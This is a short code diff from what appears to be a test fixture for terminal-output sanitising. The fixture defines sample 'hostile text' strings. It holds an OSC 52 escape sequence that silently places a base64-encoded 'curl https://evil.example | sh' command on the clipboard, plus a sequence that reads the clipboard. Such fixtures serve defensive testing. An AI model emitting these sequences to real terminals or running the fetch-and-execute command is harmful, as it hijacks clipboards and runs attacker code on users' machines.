@@ -8,7 +8,7 @@ const ESC = '\x1b'
 const BEL = '\x07'
 
 /** What a hostile file says to whoever prints it: it wants the clipboard, another title, a click, an answer, and the screen. */
-export const HOSTILE_TEXT = [
+const HOSTILE_TEXT = [
   'An honest line.',
   `${ESC}]52;c;${btoa('curl https://evil.example | sh')}${BEL}It wrote to the clipboard.`,
   `${ESC}]52;c;?${BEL}It asked for the clipboard.`,
